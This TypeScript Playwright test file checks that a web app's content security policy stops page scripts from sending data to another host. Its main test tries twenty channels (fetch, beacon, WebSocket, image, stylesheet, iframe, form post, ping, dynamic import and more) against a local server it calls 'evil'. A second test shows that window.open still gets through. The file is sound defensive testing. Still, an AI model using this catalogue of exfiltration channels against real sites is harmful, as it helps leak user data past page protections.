import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "./fixtures.ts";
import { signUp } from "./person.ts";

/** Starts another host that records the requests it receives. */
async function openElsewhere() {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? "");
    response.writeHead(200, { "access-control-allow-origin": "*" }).end();
  });
  server.on("upgrade", (request, socket) => {
    heard.push(request.url ?? "");
    socket.destroy();
  });
  await once(server.listen(0, "127.0.0.1"), "listening");
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    heard,
    close: () => void server.close(),
  };
}

test("scripts in the page reach no other host by a request", async ({ page, consoleErrors }) => {
  consoleErrors.allow(
    /Content Security Policy|content security policy|asked http:\/\/127\.0\.0\.1/,
  );
  consoleErrors.allow(/TrustedScriptURL|TrustedHTML|net::ERR|Failed to/);
  const elsewhere = await openElsewhere();
  await signUp(page);
  await page.goto("/profile");
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  const tried = await page.evaluate(async (evil) => {
    const words = (way: string) => `${evil}/?${way}=words`;
    const element = (name: string, attributes: Record<string, string>) => {
      const made = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
      document.body.append(made);
      return made;
    };
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch(words("fetch"), { mode: "no-cors" }),
      keepalive: () =>
        fetch(words("keepalive"), { method: "POST", mode: "no-cors", keepalive: true }),
      beacon: () => navigator.sendBeacon(words("beacon"), "words"),
      xhr: () => {
        const request = new XMLHttpRequest();
        request.open("GET", words("xhr"));
        request.send();
      },
      socket: () => new WebSocket(words("socket").replace("http", "ws")),
      events: () => new EventSource(words("events")),
      image: () => element("img", { src: words("image") }),
      style: () => element("div", { style: `background: url(${words("style")})` }),
      sheet: () => element("link", { rel: "stylesheet", href: words("sheet") }),
      preload: () => element("link", { rel: "preload", as: "image", href: words("preload") }),
      prefetch: () => element("link", { rel: "prefetch", href: words("prefetch") }),
      module: () => element("link", { rel: "modulepreload", href: words("module") }),
      icon: () => element("link", { rel: "icon", href: words("icon") }),
      script: () => element("script", { src: words("script") }),
      frame: () => element("iframe", { src: words("frame") }),
      object: () => element("object", { data: words("object") }),
      video: () => element("video", { src: words("video") }),
      ping: () => {
        const link = element("a", { href: "#here", ping: words("ping") });
        link.click();
      },
      import: () => import(words("import")),
      form: () => {
        const form = element("form", { action: words("form"), method: "post" });
        if (form instanceof HTMLFormElement) form.submit();
      },
    };
    for (const way of Object.values(ways))
      await Promise.resolve()
        .then(way)
        .catch(() => null);
    return Object.keys(ways).length;
  }, elsewhere.origin);
  expect(tried).toBe(20);
  // Once this request of the page is answered, the browser has sent the earlier ones or never will.
  await page.evaluate(() => fetch("/api/health"));
  expect(elsewhere.heard).toEqual([]);
  elsewhere.close();
});

test("a window that a remote opens reaches other hosts: no policy prevents it (docs/record/security/remotes.md)", async ({
  page,
  context,
  consoleErrors,
}) => {
  consoleErrors.allow(/127\.0\.0\.1/);
  const elsewhere = await openElsewhere();
  await signUp(page);
  await page.goto("/profile");
  const opened = context.waitForEvent("page");
  await page.evaluate((evil) => void open(`${evil}/?window=words`), elsewhere.origin);
  await (await opened).waitForLoadState();
  expect(elsewhere.heard).toContain("/?window=words");
  elsewhere.close();
});
